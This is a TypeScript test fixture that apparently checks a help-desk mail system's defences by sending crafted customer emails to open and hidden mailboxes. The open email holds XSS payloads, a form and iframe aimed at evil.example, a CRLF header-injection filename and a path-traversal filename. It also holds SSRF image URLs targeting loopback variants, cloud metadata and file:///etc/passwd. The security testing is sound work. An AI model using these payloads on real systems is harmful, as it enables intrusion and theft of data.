import type { House } from '../house/start-house.ts';
import { until } from '../house/until.ts';
import { answerOf } from './people.ts';
import type { Person } from './person.ts';
import { handOver } from './smtp-line.ts';
import type { PictureHost, Trap } from './trap.ts';

const KEPT_WITHIN = 60_000;
export const CUSTOMER = { name: '青木 真弓', address: 'mayumi.aoki@midori.example' };
/** Stand in the hidden mailbox only. */
export const HIDDEN_WORD = 'kawasemi7431';
export const OPEN_WORD = 'suzume2208';

/** One letter as the house keeps it. */
export interface KeptLetter {
  conversationId: string;
  messageId: string;
  number: number;
  customerId: string;
}

export interface Letters {
  /** In the open mailbox: with files of every kind, and pictures from everywhere. */
  open: KeptLetter;
  /** In the mailbox that only the administrator sees. */
  hidden: KeptLetter;
  /** The same letter to both mailboxes; this is the open one's copy. */
  copied: KeptLetter;
  /** The remote pictures of the open letter, in their order. */
  pictures: { what: string; address: string }[];
  secrets: Map<string, string>;
}

interface Wanted {
  house: House;
  owner: Person;
  trap: Trap;
  pictures: PictureHost;
  order: string;
  hidden: string;
}

export async function sendLetters({ house, owner, trap, pictures, order, hidden }: Wanted): Promise<Letters> {
  const shown = picturesOf(trap.port, pictures.port);
  const where = { port: house.smtpPort, from: '127.0.1.200' };
  const send = async (to: string[], bytes: string) => {
    const answer = await handOver(where, { to, bytes });
    if (!answer.startsWith('250')) throw new Error(`a customer's letter was not taken: ${answer}`);
  };
  await send(
    [order],
    openLetter(
      order,
      shown.map(({ address }) => address),
    ),
  );
  await send([hidden], plainLetter(hidden, '人事の件', `${HIDDEN_WORD} について`, 'hidden-1'));
  await send([order, hidden], plainLetter(order, '両方への件', `両方へ ${OPEN_WORD}`, 'both-1'));
  const find = (subject: string, mailbox: string) => keptLetter(owner, subject, mailbox);
  const { items } = await answerOf(owner, 'GET', '/mailboxes');
  const idOf = (address: string) => items.find((one: { address: string }) => one.address === address).id;
  await until('all letters to be taken in', () => isAllTaken(house), KEPT_WITHIN);
  return {
    open: await find('お皿が欠けていました', idOf(order)),
    hidden: await find('人事の件', idOf(hidden)),
    copied: await find('両方への件', idOf(order)),
    pictures: shown,
    secrets: new Map([
      ['the text of a letter', HIDDEN_WORD],
      ['the text of another letter', OPEN_WORD],
    ]),
  };
}

/** Each letter lies in its mailbox: from here on nothing changes by itself. */
async function isAllTaken(house: House): Promise<boolean> {
  const [row] = await house.rows<{ taken: number; all: number }>(
    `select (count(*) filter (where state = 'taken'))::int as taken, count(*)::int as all from raw_message`,
  );
  return row !== undefined && row.all > 0 && row.taken === row.all;
}

/** The first is honest; the others lead inside by every way of writing an address. */
function picturesOf(trap: number, pictures: number): Letters['pictures'] {
  const allowed = `http://127.0.0.2:${pictures}`;
  const redirect = (to: string) => `${allowed}/to?${encodeURIComponent(to)}`;
  return [
    { what: 'honest', address: `${allowed}/a.png` },
    { what: 'loopback by number', address: `http://127.0.0.1:${trap}/a.png` },
    { what: 'loopback by name', address: `http://localhost:${trap}/b.png` },
    { what: 'loopback as one number', address: `http://2130706433:${trap}/c.png` },
    { what: 'loopback as IPv6', address: `http://[::1]:${trap}/d.png` },
    { what: 'loopback mapped into IPv6', address: `http://[::ffff:127.0.0.1]:${trap}/e.png` },
    { what: 'metadata of a cloud', address: 'http://169.254.169.254/latest/meta-data/a.png' },
    { what: 'redirect to loopback', address: redirect(`http://127.0.0.1:${trap}/f.png`) },
    { what: 'redirect to a file', address: redirect('file:///etc/passwd') },
    { what: 'page called picture', address: `${allowed}/page.png` },
  ];
}

async function keptLetter(owner: Person, subject: string, mailboxId: string): Promise<KeptLetter> {
  const found = await until(
    `the letter ${subject}`,
    async () => {
      const { items } = await answerOf(owner, 'GET', `/conversations?mailboxId=${mailboxId}`);
      return items.find((one: { subject: string }) => one.subject === subject) ?? null;
    },
    KEPT_WITHIN,
  );
  const { items } = await answerOf(owner, 'GET', `/conversations/${found.id}/messages`);
  return {
    conversationId: found.id,
    messageId: items[0].id,
    number: found.number,
    customerId: found.customer.id,
  };
}

const encoded = (text: string) => `=?UTF-8?B?${Buffer.from(text).toString('base64')}?=`;

const headOf = (to: string, subject: string, id: string) => [
  `From: ${encoded(CUSTOMER.name)} <${CUSTOMER.address}>`,
  `To: <${to}>`,
  `Subject: ${encoded(subject)}`,
  `Message-ID: <${id}@midori.example>`,
  'Date: Fri, 20 Nov 2026 11:54:00 +0900',
  'MIME-Version: 1.0',
];

function plainLetter(to: string, subject: string, text: string, id: string): string {
  const type = ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit'];
  return [...headOf(to, subject, id), ...type, '', text].join('\r\n');
}

/** HTML that wants to run, files of every dangerous kind, a name that would split a header. */
function openLetter(to: string, pictures: readonly string[]): string {
  const page =
    `<p>${OPEN_WORD}</p><script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">a</a>` +
    `<form action="https://evil.example"><input name=p></form><iframe src="https://evil.example"></iframe>` +
    `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">` +
    `<svg onload=alert(4)></svg>${pictures.map((address) => `<img src="${address}">`).join('')}`;
  const part = (type: string, disposition: string, body: string) =>
    ['--b', `Content-Type: ${type}`, `Content-Disposition: attachment; ${disposition}`, '', body].join(
      '\r\n',
    );
  const split = "filename*=UTF-8''a%0D%0ASet-Cookie%3A%20x%3Dy%0D%0A%0D%0A%3Cscript%3E.txt";
  return [
    ...headOf(to, 'お皿が欠けていました', 'open-1'),
    'Content-Type: multipart/mixed; boundary=b',
    '',
    ['--b', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: 8bit', '', page].join(
      '\r\n',
    ),
    part('text/html', 'filename="page.html"', '<script>alert(document.cookie)</script>'),
    part(
      'image/svg+xml',
      'filename="pic.svg"',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ),
    part('text/plain', split, 'plain'),
    part('text/plain', 'filename="../../../etc/passwd"', 'plain'),
    '--b--',
    '',
  ].join('\r\n');
}
